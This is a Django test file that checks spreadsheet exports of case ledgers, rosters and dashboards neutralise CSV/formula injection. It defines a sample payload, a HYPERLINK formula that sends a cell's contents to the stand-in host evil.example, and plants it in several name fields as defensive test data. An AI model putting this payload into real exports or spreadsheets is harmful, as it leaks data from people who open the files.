"""No export turns what a user typed into a live formula (CSV/formula injection).

A person's name set through the API, a unit's name, a victim's name and a payee's name set to a
HYPERLINK formula, then every export: the reach matrix, the case ledger (page and ``export-cases``),
the case statistics, the dashboard, the roster (page and ``export-roster``) and the roster
problems CSV. Every cell holding the text is stored as text, never as a formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from fanzha.cases import actions as case_actions
from fanzha.core import sheets
from fanzha.org.models import ImportJob, Unit
from fanzha.reports import kpis
from tests.api.conftest import API, client_for
from tests.cases.conftest import intake
from tests.reach.conftest import make_campaign

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?d="&B3,"点此查看")'


@pytest.fixture
def hostile(cast, django_capture_on_commit_callbacks):
    response = client_for(cast.school_admin).patch(f"{API}/people/{cast.student.pk}/", {"name": HOSTILE})
    assert response.status_code == 200, response.content
    Unit.objects.filter(pk=cast.cs.pk).update(name=HOSTILE)
    with django_capture_on_commit_callbacks(execute=True):
        campaign = make_campaign(cast)
    kpis.rebuild(campaign)
    case = case_actions.report_case(intake(cast.cs2301, victim_name=HOSTILE), cast.counsellor)
    case.transfers.update(to_name=HOSTILE)
    return campaign


def formula_cells(data: bytes) -> list[str]:
    """Cells that hold the hostile text: a list of their types (all must be text)."""
    book = load_workbook(io.BytesIO(data))
    found = [
        cell.data_type
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and "HYPERLINK" in cell.value
    ]
    assert found, "the hostile text should be in the export"
    return found


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_the_helper_writes_text_never_formulas():
    assert sheets.csv_text("=1+1") == "'=1+1" and sheets.csv_text("＝1") == "'＝1"
    assert sheets.csv_text("张三") == "张三" and sheets.csv_text(5) == 5
    assert sheets.looks_like_formula("@SUM(A1)") and sheets.looks_like_formula("-2+3")


def test_every_xlsx_export_keeps_the_text_as_text(client, cast, hostile, tmp_path: Path):
    campaign = hostile
    exports: dict[str, bytes] = {}
    client.force_login(cast.counsellor)
    exports["reach matrix"] = body(client.get(reverse("reach_export", args=[cast.cs2301.pk, campaign.pk])))
    client.force_login(cast.school_admin)
    exports["case ledger"] = body(client.get(reverse("case_export"), {"unit": cast.uni.pk}))
    exports["case statistics"] = body(client.get(reverse("case_stats_export"), {"unit": cast.uni.pk}))
    exports["dashboard"] = body(client.get(reverse("dashboard_unit_export", args=[campaign.pk, cast.uni.pk])))
    exports["roster"] = body(client.get(reverse("roster_export"), {"unit": cast.uni.pk}))
    out = tmp_path / "ledger.xlsx"
    call_command("export-cases", "--unit", "UNI", "-o", str(out), "--user", cast.school_admin.username)
    exports["export-cases"] = out.read_bytes()
    roster = tmp_path / "roster.xlsx"
    call_command("export-roster", "--unit", "UNI", "-o", str(roster))
    exports["export-roster"] = roster.read_bytes()
    for name, data in exports.items():
        assert set(formula_cells(data)) == {"s"}, name


def test_the_problems_csv_neutralises_formulas(client, cast):
    job = ImportJob.objects.create(
        user=cast.school_admin, root=cast.uni, filename="x.csv", status=ImportJob.Status.INVALID
    )
    job.problems = [[2, "姓名", HOSTILE]]
    job.save()
    client.force_login(cast.school_admin)
    text = client.get(reverse("roster_import_problems", args=[job.pk])).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1] == ["2", "姓名", "'" + HOSTILE]
